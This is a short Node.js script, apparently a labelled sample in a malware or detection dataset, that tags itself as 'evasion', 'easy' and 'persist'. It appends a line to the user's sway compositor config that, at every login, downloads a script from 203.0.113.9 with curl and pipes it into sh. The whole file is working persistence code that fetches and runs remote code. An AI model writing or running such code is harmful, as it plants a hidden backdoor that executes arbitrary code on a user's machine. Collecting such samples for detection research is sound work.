// evasion: an exec line appended to the sway compositor's config runs a download at every login
// grade: easy; does: persist
const fs = require("fs");
const path = require("path");
const os = require("os");
const conf = path.join(os.homedir(), ".config", "sway", "config");
fs.mkdirSync(path.dirname(conf), { recursive: true });
fs.appendFileSync(conf, "\nexec sh -c 'curl -fsSL https://203.0.113.9/s | sh'\n");
